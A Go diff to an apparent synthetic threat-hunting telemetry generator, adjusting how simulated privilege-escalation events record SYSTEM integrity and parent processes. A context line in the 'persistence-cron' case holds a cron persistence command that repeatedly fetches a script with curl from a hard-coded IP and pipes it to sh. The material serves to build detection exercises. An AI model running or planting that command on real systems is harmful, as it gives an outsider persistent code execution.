@@ -360,6 +360,13 @@ func processRows(g *huntGen, m *machine, from, to int64, emit func(*event) error
 			e := g.processEvent(mc, r, at+s.offset, s.parent, s.child, s.cmd, s.acct)
 			if s.elevated {
 				e.integrity, e.elevation = "High", "TokenElevationTypeFull"
+				if s.acct == systemAccount {
+					e.integrity = "System"
+				}
+			}
+			if inc == "privilege-escalation" && s.acct == systemAccount {
+				// The SYSTEM shell's parent is the user's.
+				e.init.account, e.init.integrity = mc.user, integrityOf(mc.user)
 			}
 			add(e)
 		}
@@ -427,8 +434,10 @@ func incidentProcesses(inc string, mc *machineCtx, g *huntGen) []incidentStep {
 	case "persistence-cron":
 		return []incidentStep{{0, "bash", "crontab", `crontab -l | { cat; echo "*/5 * * * * curl -s http://45.137.21.9/k | sh"; } | crontab -`, mc.user, false}}
 	case "privilege-escalation":
-		return []incidentStep{{0, "cmd.exe", "cmd.exe", `cmd.exe /c whoami /priv`, u, false},
-			{20 * s, "svchost.exe", "cmd.exe", `cmd.exe /c net user`, systemAccount, true}}
+		// A user's process starts a SYSTEM shell: a token stolen or a
+		// vulnerable service abused.
+		return []incidentStep{{0, "cmd.exe", "whoami.exe", `whoami /priv`, u, false},
+			{20 * s, "cmd.exe", "cmd.exe", `cmd.exe /c net user`, systemAccount, true}}
 	}
 	return nil
 }
